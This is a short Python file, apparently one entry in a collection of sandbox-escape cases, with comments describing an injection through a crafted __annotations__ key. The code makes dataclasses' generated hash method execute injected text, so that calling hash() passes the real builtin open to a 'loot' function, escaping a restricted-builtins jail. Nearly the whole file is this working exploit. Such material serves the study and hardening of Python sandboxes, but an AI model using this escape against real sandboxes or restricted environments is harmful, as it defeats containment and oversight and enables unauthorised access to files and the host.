# aim: inject source text through a key of __annotations__ written in the class body
# mechanism: dataclasses writes field names into the source of the methods it makes and executes that
# language: builtins
# reason: the library executes text unguarded, and with the real builtins
# jail: process
# plain: loot

import dataclasses


@dataclasses.dataclass(init=False, repr=False, eq=False, unsafe_hash=True, match_args=False)
class Record:
    x: int = 0
    __annotations__["x, self.sink(open)"] = int

    def sink(self, found):
        loot(found)
        return 0


hash(Record())
